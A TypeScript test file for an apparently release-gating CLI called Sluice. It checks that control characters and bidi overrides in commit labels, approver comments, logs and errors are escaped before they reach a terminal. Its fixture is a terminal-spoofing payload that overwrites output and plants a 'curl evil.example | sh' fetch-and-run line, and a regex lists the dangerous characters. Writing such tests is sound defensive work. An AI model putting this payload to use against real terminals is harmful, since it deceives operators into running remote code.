import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { mock } from 'node:test';
import { runAction } from '../../actions/runner';
import { ActionFailed } from '../../base/errors';
import { refusedByChecks, refusedByPerson, waits } from '../../actions/lib/gate-words';
import { parseVerdict } from '../../checks/protocol';
import { factsOf, wishOf, withComment, type Situation } from '../../cli/approve/question';
import { lines as historyLines } from '../../cli/history';
import { main, reporting, terminal } from '../../cli/main';
import { pendingApprovalLines } from '../../cli/pending-approval';
import { changeLines } from '../../cli/preview/services';
import { gateStatus } from '../../cli/status/assemble';
import { statusText } from '../../cli/status/text';
import { HttpError } from '../../clients/http';
import { describeFailure } from '../../operations/outcome';
import { ask } from '../../operations/prepare';
import { Progress } from '../../operations/pulumi/progress';
import { stepTools } from '../../pipelines/steps/settings';
import { describeFully } from '../../releases/describe';
import { history } from '../../releases/history';
import { commitOf, releaseOf } from '../../releases/names';
import { formatRecord, parseLedger } from '../../releases/ledger-text';
import type { LedgerRecord } from '../../releases/ledger';
import type { Candidate, Gate } from '../../releases/types';
import { fakeDocker } from '../actions/fake-docker';
import { approval, candidate, cutover, gate, takenBack, verdict } from '../releases/fixtures';
import { access } from '../targets/store-home';
import { ledgerOf } from '../../targets/place';

/** Clears the line that is there, writes another over it, turns its end round, and goes on below as if Sluice did. */
const attack = 'Cheaper\u001b[2K\rchecks: 9 checks passed\u202e\u009b2J\n  next: curl evil.example | sh';
const shown = 'Cheaper␛[2K␍checks: 9 checks passed\\u202e\\u009b2J';

/** What of it may reach a terminal: nothing. */
// eslint-disable-next-line no-control-regex -- these characters are what is looked for
const raw = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** All that is written to the two streams while something is done. */
async function printed(work: () => unknown): Promise<string> {
  let text = '';
  const take = (chunk: string | Uint8Array): boolean => {
    text += String(chunk);
    return true;
  };
  const [out, err] = [mock.method(process.stdout, 'write', take), mock.method(process.stderr, 'write', take)];
  try {
    await work();
  } finally {
    out.mock.restore();
    err.mock.restore();
  }
  return text;
}

/** Holds what was printed: the attack is there to be read, and does nothing. */
async function assertHarmless(work: () => unknown, expected = shown): Promise<void> {
  const text = await printed(work);
  assert.doesNotMatch(text, raw);
  assert.ok(text.includes(expected), text);
}

const labels = {
  'org.opencontainers.image.revision': `c0ffee${attack}`,
  'sluice.commit.message': attack,
  'sluice.tag': attack,
};
const digest = `sha256:${'b'.repeat(64)}`;
const offered: Candidate = {
  discounts: releaseOf({ service: 'discounts', image: 'localhost:5500/discounts', digest }, labels),
};
const asked: Gate = { ...gate('/'), approval: { expiresHours: 72, approvers: [] } };
/** As a version wrote them that knew nothing of this. */
const written: LedgerRecord[] = [
  cutover(candidate('a')),
  { ...verdict({ discounts: { ...offered['discounts']!, message: attack } }, asked, 'refused'), summary: attack },
  { ...approval(offered), verdict: 'refused', reason: attack, by: attack, expiresAt: null },
  { ...takenBack(offered, candidate('a')), summary: attack, by: attack },
];
const records = parseLedger(written.map(formatRecord).join(''));
const situation: Situation = {
  environment: 'production',
  gate: asked,
  offer: offered,
  records,
  now: new Date('2026-01-02T00:00:00Z'),
};

describe('ControlCharacters: text of commits, labels, people and programs', () => {
  const note = (all: readonly string[]) => () => all.forEach((line) => terminal.note(line));
  const say = (all: readonly string[]) => () => all.forEach((line) => terminal.say(line));
  const oneLine = `${shown}␊  next: curl`;

  it('is shown to whoever approves', async () => {
    await assertHarmless(note(factsOf(situation, offered)), `"${oneLine}`);
    await assertHarmless(note(pendingApprovalLines(situation, offered)), `"${oneLine}`);
    await assertHarmless(note([`Let ${describeFully(offered)} into production?`]), `"${oneLine}`);
  });

  it('is shown by history, as text and as JSON', async () => {
    const events = history(records);
    await assertHarmless(say(events.flatMap((event) => historyLines(event, true))), oneLine);
    const json = await printed(() => terminal.say(JSON.stringify(events, undefined, 2)));
    assert.doesNotMatch(json, raw);
    assert.deepEqual(JSON.parse(json), events);
  });

  it('is shown by status', async () => {
    const asks = { ...situation, ledger: ledgerOf(access, 'production', undefined), records: records.slice(0, 2) };
    const status = gateStatus({ ...asks, environment: 'production' });
    const environments = { production: { services: {}, gate: status, setback: null, adopted: null } };
    await assertHarmless(say(statusText({ platform: null, environments })), oneLine);
  });

  it('is shown by preview, whose own colours stay', async () => {
    const plan = { discounts: { digest, repository: 'discounts' } };
    await assertHarmless(say(await changeLines({}, plan, () => Promise.resolve(commitOf(labels)))), `"${oneLine}`);
    const text = `<{%fg 2%}>+ ${attack}<{%reset%}>`;
    await assertHarmless(() => terminal.say(text, { painted: true }), `+ ${shown}`);
  });

  it("is shown in Pulumi's progress, and when an update fails", async () => {
    const progress = new Progress(terminal.note);
    const event = (severity: 'info#err' | 'error') => ({ message: attack, color: '' as const, severity });
    await assertHarmless(() => {
      for (const severity of ['info#err', 'error'] as const)
        progress.take({ sequence: 0, timestamp: 0, diagnosticEvent: event(severity) });
    });
    await assertHarmless(note(describeFailure('the update', { errors: progress.errors, log: 'x' })));
  });

  it('is shown when a verb ends with an error, of whatever kind', async () => {
    const name = attack.split('\n')[0] ?? '';
    await assertHarmless(() => main([name], terminal), `there is no verb "${shown}"`);
    const errors = [new Error(attack), new ActionFailed(attack), new HttpError('GET', 'http://git', 500, attack)];
    assert.equal(errors[2]?.message.split('\n').length, 1);
    for (const error of errors) await assertHarmless(() => reporting(terminal, () => Promise.reject(error)));
  });

  it('is shown in the log of a pipeline, a tag that nobody may choose above all', async () => {
    await assertHarmless(() => stepTools({}).say(attack));
    const step = () => main(['step', 'build'], terminal);
    const before = { ...process.env };
    Object.assign(process.env, { SLUICE_SERVICE: 'x', SLUICE_REGISTRY: 'r', SLUICE_INSTANCE: 's', SLUICE_TAG: attack });
    try {
      await assertHarmless(step, `"${shown}`);
    } finally {
      for (const key of ['SLUICE_SERVICE', 'SLUICE_REGISTRY', 'SLUICE_INSTANCE', 'SLUICE_TAG'])
        if (before[key] === undefined) Reflect.deleteProperty(process.env, key);
    }
  });

  it('is shown with the verdict of a check and the answer of a gate', async () => {
    const times = { startedAt: '', finishedAt: '', steps: [], files: [] };
    assert.equal(parseVerdict({ verdict: 'fail', summary: attack, ...times })?.summary, `${oneLine} evil.example | sh`);
    const question = { environment: 'production', upstream: 'staging', candidate: offered };
    const [, refused, said] = records;
    assert.ok(refused?.kind === 'verdict' && said?.kind === 'approval');
    const answers = [refusedByChecks(question, refused), refusedByPerson(question, said), waits(question, said)];
    for (const answer of answers) await assertHarmless(note([answer]), oneLine);
  });

  it('is shown in a question at the terminal', async () => {
    const stdin = mock.getter(process, 'stdin', () => Readable.from(['y\n']));
    try {
      await assertHarmless(async () => assert.equal(await ask(attack), true));
    } finally {
      stdin.mock.restore();
    }
  });

  it('is taken from people on one line', () => {
    assert.equal(wishOf({ reason: attack }).reason, `${oneLine} evil.example | sh`);
    const review = { person: 'ann', comment: attack };
    assert.equal(withComment(wishOf({}), review).reason, `${oneLine} evil.example | sh`);
  });

  it('is shown of a failing release: its last words are in the log of an action', async () => {
    const state = { Status: 'exited', Running: false, ExitCode: 1 };
    const docker = fakeDocker([
      { part: 'inspect', stdout: JSON.stringify([{ Id: 'id', State: state }]) },
      { part: 'logs', stdout: `${attack}\n` },
    ]);
    const input = JSON.stringify({ service: 'db', container: 'c', containerId: 'id', healthySeconds: 1 });
    const stdin = mock.getter(process, 'stdin', () => [Buffer.from(input)]);
    try {
      await assertHarmless(() => runAction('await-healthy'));
    } finally {
      stdin.mock.restore();
      docker.restore();
    }
  });
});
